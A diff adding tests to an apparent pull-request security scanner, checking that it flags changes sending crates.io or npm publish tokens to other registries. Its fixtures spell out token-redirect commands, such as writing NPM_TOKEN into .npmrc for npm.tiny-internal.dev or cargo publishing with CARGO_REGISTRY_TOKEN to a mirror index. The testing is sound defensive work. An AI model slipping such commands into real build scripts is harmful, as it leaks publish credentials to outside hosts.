@@ -578,3 +578,58 @@ describe('remote-package-install in package scripts', () => {
     expect(found({ test: 'vitest' }, { test: 'vitest', tools: `npm install -g typescript@5.6.3 && pip install git+https://github.com/someone/pkg@${SHA}` })).toEqual([]);
   });
 });
+
+describe('a crates.io token given to an alternative registry the PR names in .cargo/config.toml', () => {
+  const config = (index: string) => `[registries.fast]\nindex = "${index}"\n`;
+  const workflow = (...steps: string[]) => ['name: release', 'on:', '  push:', '    tags: ["v*"]', 'jobs:', '  publish:', '    runs-on: ubuntu-latest', '    steps:', '      - uses: actions/checkout@v4', ...steps, ''].join('\n');
+  /** A change whose patch removes every base line and adds every head line (the checks read the added lines). */
+  const diffed = (path: string, base: string | null, head: string): ReturnType<typeof change> => {
+    const c = change(path, base, head);
+    const removed = base === null ? [] : base.replace(/\n$/, '').split('\n');
+    const added = head.replace(/\n$/, '').split('\n');
+    const patch = [`@@ -${removed.length === 0 ? 0 : 1},${removed.length} +1,${added.length} @@`, ...removed.map((l) => `-${l}`), ...added.map((l) => `+${l}`)].join('\n');
+    return { ...c, files: c.files.map((f) => ({ ...f, patch })) };
+  };
+  const found = (...changes: ReturnType<typeof change>[]) =>
+    analyze(snapshotOf(...changes))
+      .findings.filter((f) => /registry/.test(f.title) && (f.id === 'publish-token-redirect' || f.id === 'gha-secrets-exfiltration'))
+      .map((f) => `${f.id} ${f.severity} ${f.path}:${f.line}`);
+  it('reads `cargo publish --registry NAME` as a publish to the index the PR gives NAME: in a workflow, a script or a Makefile, by --token or CARGO_REGISTRIES_<NAME>_TOKEN', () => {
+    const cfg = diffed('.cargo/config.toml', null, config('sparse+https://crates.fast-mirror.dev/index/'));
+    expect(found(cfg, diffed('.github/workflows/release.yml', null, workflow('      - run: cargo publish --registry fast --token ${{ secrets.CARGO_REGISTRY_TOKEN }}')))).toEqual(['gha-secrets-exfiltration high .github/workflows/release.yml:10']);
+    expect(found(cfg, diffed('.github/workflows/release.yml', null, workflow('      - run: cargo publish --registry fast', '        env:', '          CARGO_REGISTRIES_FAST_TOKEN: ${{ secrets.CARGO_REGISTRY_TOKEN }}')))).toEqual(['gha-secrets-exfiltration high .github/workflows/release.yml:10']);
+    expect(found(cfg, diffed('scripts/publish.sh', null, '#!/bin/sh\ncargo publish --registry fast --token "$CARGO_REGISTRY_TOKEN"\n'))).toEqual(['publish-token-redirect high scripts/publish.sh:2']);
+    expect(found(cfg, diffed('Makefile', 'test:\n\tcargo test\n', 'test:\n\tcargo test\nrelease:\n\tcargo publish --registry=fast --token $(CARGO_REGISTRY_TOKEN)\n'))).toEqual(['publish-token-redirect high Makefile:4']);
+    // The index re-pointed by the PR counts as well.
+    expect(found(diffed('.cargo/config.toml', config('sparse+https://cargo.acme.dev/index/'), config('sparse+https://crates.fast-mirror.dev/index/')), diffed('scripts/publish.sh', null, '#!/bin/sh\ncargo publish --registry fast --token "$CARGO_REGISTRY_TOKEN"\n'))).toHaveLength(1);
+  });
+  it('leaves a private registry with its own token, a registry the PR does not change, crates.io\'s token only in the environment, and an index on crates.io', () => {
+    const cfg = diffed('.cargo/config.toml', null, config('sparse+https://crates.fast-mirror.dev/index/'));
+    expect(found(diffed('.cargo/config.toml', null, '[registries.acme]\nindex = "sparse+https://cargo.acme.dev/index/"\n'), diffed('scripts/publish.sh', null, '#!/bin/sh\ncargo publish --registry acme --token "$ACME_CARGO_TOKEN"\n'))).toEqual([]);
+    expect(found(diffed('.cargo/config.toml', config('sparse+https://crates.fast-mirror.dev/index/'), `${config('sparse+https://crates.fast-mirror.dev/index/')}[net]\nretry = 3\n`), diffed('scripts/publish.sh', null, '#!/bin/sh\ncargo publish --registry fast --token "$CARGO_REGISTRY_TOKEN"\n'))).toEqual([]);
+    expect(found(cfg, diffed('.github/workflows/release.yml', null, workflow('      - run: cargo publish --registry fast', '        env:', '          CARGO_REGISTRY_TOKEN: ${{ secrets.CARGO_REGISTRY_TOKEN }}')))).toEqual([]);
+    expect(found(diffed('.cargo/config.toml', null, config('sparse+https://index.crates.io/')), diffed('scripts/publish.sh', null, '#!/bin/sh\ncargo publish --registry fast --token "$CARGO_REGISTRY_TOKEN"\n'))).toEqual([]);
+    expect(found(cfg, diffed('scripts/publish.sh', null, '#!/bin/sh\ncargo publish --registry faster --token "$CARGO_REGISTRY_TOKEN"\n'))).toEqual([]);
+  });
+});
+
+describe('publish-token-redirect in package scripts', () => {
+  const found = (base: Record<string, string> | null, head: Record<string, string>) =>
+    analyze(snapshotOf(change('package.json', base === null ? null : pkg({ scripts: base }), pkg({ scripts: head }))))
+      .findings.filter((f) => f.id === 'publish-token-redirect')
+      .map((f) => `${f.severity} ${f.title}`);
+  it('reports a script the PR adds or changes that hands a registry-named token to another host, whatever the script is called', () => {
+    expect(found({ test: 'vitest' }, { test: 'vitest', release: 'echo "//npm.tiny-internal.dev/:_authToken=${NPM_TOKEN}" > .npmrc && npm publish' })).toEqual(['high Script "release" gives an npm token to another registry, npm.tiny-internal.dev']);
+    expect(found({ test: 'vitest', prepublishOnly: 'tsc' }, { test: 'vitest', prepublishOnly: 'tsc && npm config set //registry.npm-cache.io/:_authToken "$NPM_TOKEN"' })).toHaveLength(1);
+    expect(found({ test: 'vitest' }, { test: 'vitest', 'release:crate': 'cargo publish --index sparse+https://crates.rs-mirror.dev/index/ --token $CARGO_REGISTRY_TOKEN' })).toHaveLength(1);
+  });
+  it('leaves the registries themselves, GitHub Packages, a private registry\'s own token, the generic NODE_AUTH_TOKEN and a host a base script already had', () => {
+    expect(found({ test: 'vitest' }, { test: 'vitest', release: 'echo "//registry.npmjs.org/:_authToken=${NPM_TOKEN}" > .npmrc && npm publish' })).toEqual([]);
+    expect(found({ test: 'vitest' }, { test: 'vitest', release: 'echo "//npm.pkg.github.com/:_authToken=${NODE_AUTH_TOKEN}" > .npmrc && npm publish' })).toEqual([]);
+    expect(found({ test: 'vitest' }, { test: 'vitest', release: 'echo "//nexus.acme.dev/repository/npm/:_authToken=${NEXUS_NPM_TOKEN}" > .npmrc && npm publish' })).toEqual([]);
+    expect(found({ test: 'vitest' }, { test: 'vitest', release: 'echo "//npm.acme.dev/:_authToken=${NODE_AUTH_TOKEN}" > .npmrc && npm publish' })).toEqual([]);
+    const before = { publish: 'echo "//npm.tiny-internal.dev/:_authToken=${NPM_TOKEN}" > .npmrc && npm publish' };
+    expect(found(before, { ...before, test: 'vitest' })).toEqual([]);
+    expect(found(before, { 'publish:ci': before.publish + ' --tag next' })).toEqual([]);
+  });
+});
